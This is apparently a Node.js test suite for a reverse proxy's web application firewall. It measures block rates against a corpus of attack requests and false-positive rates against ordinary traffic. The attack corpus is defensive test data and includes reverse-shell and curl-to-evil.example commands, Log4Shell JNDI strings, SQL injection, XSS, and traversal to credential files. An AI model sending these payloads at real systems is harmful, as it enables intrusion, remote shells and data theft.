// WAF: attack and ordinary-traffic corpora through a real proxy (detection and false-positive
// rates are reported), detect vs block, custom rules with (?i), operators and actions, per-route
// override and exclusions, and inspection of small form/JSON bodies that still reach the origin.
import { test, after, before, describe } from 'node:test';
import assert from 'node:assert/strict';
import diagnostics_channel from 'node:diagnostics_channel';
import { startOrigin, startProxy, request, rawRequest } from './helpers.mjs';
import { compilePattern } from '../dist/filters/waf/index.js';

const cleanups = [];
after(async () => {
  for (const c of cleanups.reverse()) await c();
});

let origin;
let originHits = 0;
let lastBody = '';
before(async () => {
  origin = await startOrigin((req, res) => {
    originHits++;
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      lastBody = Buffer.concat(chunks).toString();
      res.end('ok');
    });
  });
  cleanups.push(origin.close);
});

async function proxy(yaml) {
  const p = await startProxy(yaml);
  cleanups.push(p.close);
  return p;
}

const e = encodeURIComponent;

// [description, path+query, headers?]
const ATTACKS = [
  ['traversal in query', `/download?file=${e('../../../../etc/passwd')}`],
  ['encoded traversal in path', '/static/..%2f..%2f..%2fetc%2fpasswd'],
  ['double-encoded traversal', '/files?name=%252e%252e%252fetc%252fshadow'],
  ['windows traversal', `/get?f=${e('..\\..\\windows\\win.ini')}`],
  ['proc self', `/view?page=${e('/proc/self/environ')}`],
  ['php wrapper LFI', `/index.php?page=${e('php://filter/convert.base64-encode/resource=index')}`],
  ['file scheme', `/fetch?url=${e('file:///etc/hosts')}`],
  ['SSRF metadata', `/fetch?url=${e('http://169.254.169.254/latest/meta-data/')}`],
  ['SQLi tautology', `/login?user=${e("admin' OR '1'='1")}`],
  ['SQLi numeric tautology', `/item?id=${e('1 OR 1=1')}`],
  ['SQLi comment', `/login?user=${e("admin'--")}`],
  ['SQLi union', `/item?id=${e('1 UNION SELECT username, password FROM users')}`],
  ['SQLi union with comments', `/item?id=${e('1/**/UNION/**/SELECT/**/1,2,3')}`],
  ['SQLi stacked', `/item?id=${e('1; DROP TABLE users')}`],
  ['SQLi time based', `/item?id=${e('1 AND SLEEP(5)')}`],
  ['SQLi waitfor', `/item?id=${e("1'; WAITFOR DELAY '0:0:5'--")}`],
  ['SQLi catalog', `/item?id=${e('1 and 1=(select count(*) from information_schema.tables)')}`],
  ['SQLi benchmark', `/item?id=${e('benchmark(10000000,md5(1))')}`],
  ['SQLi extractvalue', `/item?id=${e('1 and extractvalue(1,concat(0x7e,version()))')}`],
  ['SQLi double quote', `/search?q=${e('" or ""="')}`],
  ['XSS script', `/search?q=${e('<script>alert(1)</script>')}`],
  ['XSS img onerror', `/search?q=${e('<img src=x onerror=alert(1)>')}`],
  ['XSS svg onload', `/search?q=${e('<svg/onload=alert(document.domain)>')}`],
  ['XSS javascript url', `/redirect?to=${e('javascript:alert(document.cookie)')}`],
  ['XSS entity encoded', `/search?q=${e('&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;')}`],
  ['XSS iframe', `/search?q=${e('<iframe src="http://evil.example/">')}`],
  ['XSS body onload', `/search?q=${e('<body onload=alert(1)>')}`],
  ['XSS attribute break', `/search?q=${e('" autofocus onfocus=alert(1) x="')}`],
  ['XSS in cookie', '/', { cookie: `pref=${e('<script>steal()</script>')}` }],
  ['command injection semicolon', `/ping?host=${e('127.0.0.1; cat /etc/passwd')}`],
  ['command injection pipe', `/ping?host=${e('x | nc attacker 4444 -e /bin/sh')}`],
  ['command substitution', `/ping?host=${e('$(whoami)')}`],
  ['backticks', `/ping?host=${e('`id`')}`],
  ['command and', `/ping?host=${e('8.8.8.8 && curl http://evil.example/x.sh')}`],
  ['shellshock', '/cgi-bin/status', { 'user-agent': '() { :; }; /bin/bash -c "id"' }],
  ['php code', `/page?c=${e('<?php system($_GET["c"]); ?>')}`],
  ['php eval', `/page?c=${e('eval(base64_decode("ZWNobyAxOw=="))')}`],
  ['node child_process', `/run?code=${e("require('child_process').exec('id')")}`],
  ['prototype pollution', `/api?${e('__proto__[admin]')}=true`],
  ['log4shell', '/', { 'x-api-version': '${jndi:ldap://evil.example/a}' }],
  ['log4shell in query', `/search?q=${e('${jndi:ldap://evil.example/a}')}`],
  ['scanner sqlmap', '/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }],
  ['scanner nikto', '/', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)' }],
  [
    'scanner nuclei',
    '/',
    { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
  ],
  ['git exposure', '/.git/config'],
  ['env file', '/.env'],
  ['backup file', '/db/backup.sql'],
  ['NUL byte', '/download?file=report.pdf%00.php'],
  ['TRACE method', '/', {}, 'TRACE'],
];

const ORDINARY = [
  ['home page', '/'],
  ['static asset', '/static/js/app.3f9a1c.js'],
  ['css', '/assets/css/main.min.css?v=1.2.3'],
  ['image', '/images/logo@2x.png'],
  ['api resource', '/api/v1/users/42/orders?page=2&per_page=50&sort=-created_at'],
  ['search with quotes', `/search?q=${e("O'Brien's pub")}`],
  ['search with and/or', `/search?q=${e('rock and roll or jazz')}`],
  ['search sentence', `/search?q=${e('how to select a dress from the shop window')}`],
  ['search with equals', `/search?q=${e('e=mc2 meaning')}`],
  ['search with code words', `/search?q=${e('union station chicago')}`],
  ['search update', `/search?q=${e('update drivers for windows 11')}`],
  ['search drop', `/search?q=${e('drop shipping business')}`],
  ['date range', '/reports?from=2024-01-01&to=2024-12-31&format=csv'],
  ['email', `/subscribe?email=${e('jane.doe+news@example.com')}`],
  ['url parameter', `/redirect?to=${e('https://example.com/welcome?ref=mail')}`],
  ['utm tags', '/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale'],
  ['json-ish filter', `/api/items?filter=${e('{"status":"active","tags":["a","b"]}')}`],
  ['math expression', `/calc?expr=${e('(3 + 4) * 2 - 1')}`],
  ['unicode text', `/search?q=${e('café crème brûlée')}`],
  ['phone', `/contact?phone=${e('+1 (555) 010-9999')}`],
  ['comma list', '/api/products?ids=1,2,3,4&fields=name,price'],
  [
    'hash-like token',
    '/reset?token=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  ],
  ['base64 param', '/callback?state=eyJyZXR1cm4iOiIvZGFzaGJvYXJkIn0%3D'],
  [
    'oauth callback',
    '/oauth/callback?code=4/P7q7W91&scope=email%20profile&authuser=0&prompt=consent',
  ],
  ['file name', '/files/annual-report_2023.final.pdf'],
  ['nested path', '/docs/guide/getting-started/installation'],
  ['semver', '/packages/lodash/versions/4.17.21'],
  ['time', `/events?at=${e('12:30')}&tz=${e('Europe/Paris')}`],
  ['percent sign', `/search?q=${e('50% off')}`],
  ['ampersand text', `/search?q=${e('Tom & Jerry')}`],
  ['html-ish words', `/search?q=${e('script writing course')}`],
  ['angle bracket compare', `/search?q=${e('price < 100')}`],
  ['question', `/ask?q=${e('What is 1=1 in logic?')}`],
  [
    'browser UA',
    '/',
    {
      'user-agent':
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
    },
  ],
  [
    'mobile UA',
    '/',
    {
      'user-agent':
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    },
  ],
  ['curl UA', '/', { 'user-agent': 'curl/8.5.0' }],
  [
    'cookies',
    '/',
    { cookie: 'session=abc123; theme=dark; consent={"ads":false}; _ga=GA1.2.1234.5678' },
  ],
  [
    'accept headers',
    '/',
    {
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'accept-language': 'en-US,en;q=0.5',
    },
  ],
  ['referer', '/page', { referer: 'https://www.example.com/search?q=select+from+list' }],
  [
    'authorization',
    '/api/me',
    { authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig' },
  ],
  ['if-none-match', '/data.json', { 'if-none-match': 'W/"5e-1b2c3d"' }],
  ['graphql get', `/graphql?query=${e('{ user(id: 1) { name email } }')}`],
  ['sort by column', '/api/orders?order_by=created_at&direction=desc'],
  ['dotted name', '/users/john.smith/profile'],
  ['well-known', '/.well-known/openid-configuration'],
];

describe('WAF corpora (mode block)', () => {
  let p;
  before(async () => {
    p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
waf: { mode: block }
routes: [{ upstream: app }]
`);
  });

  test('attacks are blocked and ordinary requests pass; rates reported', async (t) => {
    const missed = [];
    for (const [name, path, headers = {}, method = 'GET'] of ATTACKS) {
      const r = await request(`${p.url}${path}`, { headers, method });
      if (r.status !== 403) missed.push(`${name} (${r.status})`);
      else assert.match(r.text, /^403 Forbidden\nrequest id: [0-9a-f-]+\n$/);
    }
    const falsePositives = [];
    for (const [name, path, headers = {}] of ORDINARY) {
      const r = await request(`${p.url}${path}`, { headers });
      if (r.status !== 200) falsePositives.push(`${name} (${r.status})`);
    }
    const detection = (ATTACKS.length - missed.length) / ATTACKS.length;
    const fpRate = falsePositives.length / ORDINARY.length;
    const summary = `WAF detection ${(detection * 100).toFixed(1)}% of ${ATTACKS.length} attacks; false positives ${(fpRate * 100).toFixed(1)}% of ${ORDINARY.length} ordinary requests`;
    t.diagnostic(summary);
    console.log(`# ${summary}`);
    assert.deepEqual(falsePositives, [], 'no ordinary request is blocked');
    if (missed.length > 0) t.diagnostic(`missed: ${missed.join(', ')}`);
    assert.ok(detection >= 0.95, `missed: ${missed.join(', ')}`);
  });

  test('a blocked request never reaches the origin', async () => {
    const before = originHits;
    const r = await request(`${p.url}/search?q=${e('<script>alert(1)</script>')}`);
    assert.equal(r.status, 403);
    assert.equal(originHits, before);
  });

  test('small form and JSON bodies are inspected, and pass through intact when clean', async () => {
    const form = await request(`${p.url}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `user=${e("admin' or 1=1--")}&pass=x`,
    });
    assert.equal(form.status, 403);
    const json = await request(`${p.url}/api`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ comment: '<script>alert(1)</script>' }),
    });
    assert.equal(json.status, 403);
    const clean = JSON.stringify({ name: 'Jane', note: 'hello world', n: [1, 2, 3] });
    const ok = await request(`${p.url}/api`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: clean,
    });
    assert.equal(ok.status, 200);
    assert.equal(lastBody, clean, 'the inspected body reaches the origin unchanged');
    const big = 'a'.repeat(200 * 1024);
    const large = await request(`${p.url}/upload`, {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: big,
    });
    assert.equal(large.status, 200);
    assert.equal(lastBody.length, big.length, 'large bodies stream through uninspected');
  });
});

describe('WAF modes and configuration', () => {
  test('detect logs and publishes but lets the request through', async () => {
    const p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
waf: { mode: detect }
routes: [{ upstream: app }]
`);
    const events = [];
    const onMatch = (m) => events.push(m);
    diagnostics_channel.subscribe('switchyard:waf:match', onMatch);
    try {
      const r = await request(`${p.url}/?q=${e('1 UNION SELECT password FROM users')}`);
      assert.equal(r.status, 200);
    } finally {
      diagnostics_channel.unsubscribe('switchyard:waf:match', onMatch);
    }
    assert.equal(events.length, 1);
    assert.equal(events[0].blocked, false);
    assert.ok(events[0].ruleIds.includes(942190));
    const line = p.logs.find((l) => l.message === 'waf detected a request');
    assert.ok(line && line.rules.includes(942190) && line.requestId);
  });

  test('per-route override: off on one route, block on another, exclusions', async () => {
    const p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
waf: { mode: block }
routes:
  - { match: { pathPrefix: /raw }, upstream: app, waf: { mode: off } }
  - { match: { pathPrefix: /cms }, upstream: app, waf: { mode: block, exclude: [941110, 941160] } }
  - { upstream: app }
`);
    const xss = `?q=${e('<script>x</script>')}`;
    assert.equal((await request(`${p.url}/raw${xss}`)).status, 200);
    assert.equal((await request(`${p.url}/cms${xss}`)).status, 200);
    assert.equal((await request(`${p.url}/other${xss}`)).status, 403);
    assert.equal((await request(`${p.url}/cms?q=${e('1 union select 1')}`)).status, 403);
  });

  test('a route can turn the WAF on without a global mode', async () => {
    const p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
routes:
  - { match: { pathPrefix: /guarded }, upstream: app, waf: { mode: block } }
  - { upstream: app }
`);
    const sqli = `?id=${e("' or '1'='1")}`;
    assert.equal((await request(`${p.url}/guarded${sqli}`)).status, 403);
    assert.equal((await request(`${p.url}/open${sqli}`)).status, 200);
  });

  test('custom rules: (?i) flag, parts, operators, block and allow actions', async () => {
    const p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
waf:
  mode: block
  threshold: 5
  rules:
    - { id: 10001, part: query, pattern: "(?i)badword", score: 5 }
    - { id: 10002, part: headers, pattern: "x-debug-token", operator: contains, action: block }
    - { id: 10003, part: path, pattern: /internal/health, operator: equals, action: allow }
    - { id: 10004, part: query, pattern: "(?i)meh", score: 2 }
routes: [{ upstream: app }]
`);
    assert.equal((await request(`${p.url}/?q=BadWord`)).status, 403);
    assert.equal((await request(`${p.url}/?q=MEH`)).status, 200, 'below the threshold');
    assert.equal((await request(`${p.url}/?q=meh&r=meh+badword`)).status, 403);
    assert.equal((await request(`${p.url}/`, { headers: { 'x-debug-token': '1' } })).status, 403);
    assert.equal(
      (await request(`${p.url}/internal/health?x=${e('<script>')}`)).status,
      200,
      'allow rules are exceptions',
    );
  });

  test('(?i) and other leading inline flags become RegExp flags', () => {
    assert.equal(compilePattern('(?i)abc').flags, 'i');
    assert.equal(compilePattern('(?is)a.c').flags, 'is');
    assert.ok(compilePattern('(?i)abc').test('xABCx'));
    assert.equal(compilePattern('abc').flags, '');
  });

  test('an invalid custom pattern fails the config load with the rule id', async () => {
    await assert.rejects(
      startProxy(`
listeners: [{ address: "127.0.0.1:0" }]
waf: { mode: block, rules: [{ id: 77, part: query, pattern: "(unclosed" }] }
routes: [{ respond: { body: x } }]
`),
      /waf\.rules\[0\]\.pattern: invalid regular expression: .*Unterminated group \(3:61\)/,
    );
  });

  test('a protocol violation on the raw socket is blocked (TRACE)', async () => {
    const p = await proxy(`
listeners: [{ address: "127.0.0.1:0" }]
upstreams: { app: { servers: [{ url: "${origin.url}" }] } }
waf: { mode: block }
routes: [{ upstream: app }]
`);
    const answer = await rawRequest(
      p.port,
      'TRACE / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n',
    );
    assert.match(answer, /^HTTP\/1\.1 403/);
  });
});
